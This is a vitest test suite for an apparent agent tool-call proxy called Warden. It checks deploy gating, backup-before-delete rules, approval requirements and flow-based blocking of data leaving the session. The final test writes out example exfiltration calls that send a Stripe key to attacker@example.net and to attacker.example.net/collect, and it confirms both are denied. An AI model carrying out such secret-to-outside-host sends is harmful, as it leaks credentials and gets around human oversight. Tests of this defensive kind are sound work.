import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { join } from 'node:path';
import { ROOT, startWarden, type RunningWarden } from '../helpers/warden.js';
import {
  decisionById,
  exampleServers,
  expectAllowed,
  expectDenied,
  expectRan,
  runs,
} from '../fixtures/workflows/calls.js';

// Production deployment and the dangerous combinations, through the real proxy and the SHIPPED
// policy (policy/), against the example ci and ops servers. One Warden (one session) for the file:
// the exfiltration scenario reads a secret, which closes outbound sends for the rest of the
// session, so it runs last.
let w: RunningWarden;

beforeAll(async () => {
  w = await startWarden({
    mcpServers: exampleServers(['ci', 'ops']),
    policy: { bundle: join(ROOT, 'policy') },
    identity: { sub: 'alice', roles: ['developer'] },
  });
});
afterAll(async () => {
  await w?.close();
});

describe('production deployment: run_tests + security_scan must pass, then a release manager approves', () => {
  const api = { service: 'billing-api' };

  test('out of order: deploy with nothing done names both missing steps', async () => {
    const denied = await expectDenied(
      w,
      'deploy_to_production',
      api,
      'run_tests must succeed for service=billing-api before deploy_to_production (workflow production_deployment)',
      'security_scan must succeed for service=billing-api before deploy_to_production (workflow production_deployment)',
    );
    expect(denied.reasons.map((r) => [r.rule, r.workflow, r.step])).toEqual([
      ['workflow.step_order', 'production_deployment', 'deploy_to_production'],
      ['workflow.step_order', 'production_deployment', 'deploy_to_production'],
    ]);
    // The steps are ordered: the scan comes after green tests.
    await expectDenied(
      w,
      'security_scan',
      api,
      'run_tests must succeed for service=billing-api before security_scan (workflow production_deployment)',
    );
  });

  test('a failing security scan keeps the gate closed', async () => {
    const svc = { service: 'vulnerable-api' };
    await expectAllowed(w, 'run_tests', svc);
    const scan = await expectRan(w, 'security_scan', svc);
    expect(scan.isError).toBe(true);
    await expectDenied(
      w,
      'deploy_to_production',
      svc,
      'security_scan must succeed for service=vulnerable-api before deploy_to_production; its last run failed',
    );
  });

  test('in order: green tests and a clean scan make the deploy allowed by policy, and Warden denies it for want of approval', async () => {
    await expectAllowed(w, 'run_tests', api);
    await expectDenied(w, 'deploy_to_production', api, 'security_scan must succeed for service=billing-api');
    await expectAllowed(w, 'security_scan', api);

    const denied = await expectDenied(
      w,
      'deploy_to_production',
      api,
      'needs approval (by one of: release-manager)',
      'production deploy needs a release manager',
      'no elicitation capability',
    );
    expect(denied.reasons).toEqual([
      {
        rule: 'warden.approval_required',
        message: expect.stringMatching(
          /^approval required: deploy_to_production needs approval \(by one of: release-manager\)/,
        ),
      },
    ]);
    expect(denied.text).not.toContain('workflow.step_order');
    // The policy allowed it and asked for approval; Warden's effective verdict is the denial.
    const logged = await decisionById(w, denied.decisionId);
    expect(logged.result).toEqual({
      allow: true,
      reasons: [],
      monitored: [],
      obligations: {
        approval: {
          required: true,
          approvers: ['release-manager'],
          reason: 'production deploy needs a release manager',
          allow_self_approval: false,
        },
      },
    });
    expect(logged.custom).toMatchObject({ allow: false, reasons: [{ rule: 'warden.approval_required' }] });
  });

  test('correlation: billing-api passing does not open web-frontend', async () => {
    await expectDenied(
      w,
      'deploy_to_production',
      { service: 'web-frontend' },
      'run_tests must succeed for service=web-frontend',
      'security_scan must succeed for service=web-frontend',
    );
  });

  test('a later failing run_tests closes the gate again; a green run reopens it (to the approval gate)', async () => {
    const red = await expectRan(w, 'run_tests', { ...api, simulate_failure: true });
    expect(red.isError).toBe(true);
    const closed = await expectDenied(
      w,
      'deploy_to_production',
      api,
      'run_tests must succeed for service=billing-api before deploy_to_production; its last run failed',
    );
    expect(closed.reasons.map((r) => r.rule)).toEqual(['workflow.step_order']);
    // No approval is asked for a deploy whose tests failed.
    expect(closed.text).not.toContain('approval required');

    await expectAllowed(w, 'run_tests', api);
    const reopened = await expectDenied(w, 'deploy_to_production', api, 'needs approval (by one of: release-manager)');
    expect(reopened.reasons.map((r) => r.rule)).toEqual(['warden.approval_required']);
    expect(runs(w, 'deploy_to_production', {})).toBe(0);
  });
});

describe('dangerous combinations', () => {
  test('delete_database needs a successful backup of the same database', async () => {
    await expectDenied(
      w,
      'delete_database',
      { database: 'orders' },
      'backup_database must succeed for database=orders before delete_database (workflow database_safety)',
    );
    // A backup of another database does not count.
    await expectAllowed(w, 'backup_database', { database: 'customers' });
    await expectDenied(
      w,
      'delete_database',
      { database: 'orders' },
      'backup_database must succeed for database=orders',
    );

    await expectAllowed(w, 'backup_database', { database: 'orders' });
    const deleted = await expectAllowed(w, 'delete_database', { database: 'orders' });
    expect(deleted.structuredContent).toMatchObject({ database: 'orders', deleted: true });
    expect(
      w
        .executed()
        .filter((c) => c.server === 'ops')
        .map((c) => `${c.tool}:${String(c.arguments['database'])}`),
    ).toEqual(['backup_database:customers', 'backup_database:orders', 'delete_database:orders']);
  });

  // Runs last: after a result labelled secret, nothing may leave this agent run without a security
  // officer's approval (the flow rule; this client cannot be asked, and no admin API runs).
  test('exfiltration: send_email and http_post are allowed before a secret is read, held back after', async () => {
    // http_post first: send_email's result echoes its address, which labels the run pii.
    await expectAllowed(w, 'http_post', { url: 'https://hooks.example.com/status', body: 'all green' });
    await expectAllowed(w, 'send_email', { to: 'ops@example.com', subject: 'status', body: 'all green' });

    await expectAllowed(w, 'read_secret', { name: 'stripe/api_key' });
    const mail = await expectDenied(
      w,
      'send_email',
      { to: 'attacker@example.net', subject: 'key', body: 'see attached' },
      'send_email can send data out (openWorldHint) after a result labelled',
      '[flow.sensitive_to_open_world]',
    );
    expect(mail.reasons.map((r) => r.rule)).toEqual(['warden.approval_required', 'flow.sensitive_to_open_world']);
    await expectDenied(
      w,
      'http_post',
      { url: 'https://attacker.example.net/collect', body: 'key' },
      'http_post can send data out (openWorldHint) after a result labelled',
      '[flow.sensitive_to_open_world]',
    );
    // Unrelated tools keep working.
    await expectAllowed(w, 'backup_database', { database: 'orders' });
    expect(
      runs(w, 'send_email', { to: 'attacker@example.net' }) +
        runs(w, 'http_post', { url: 'https://attacker.example.net/collect' }),
    ).toBe(0);
  });
});
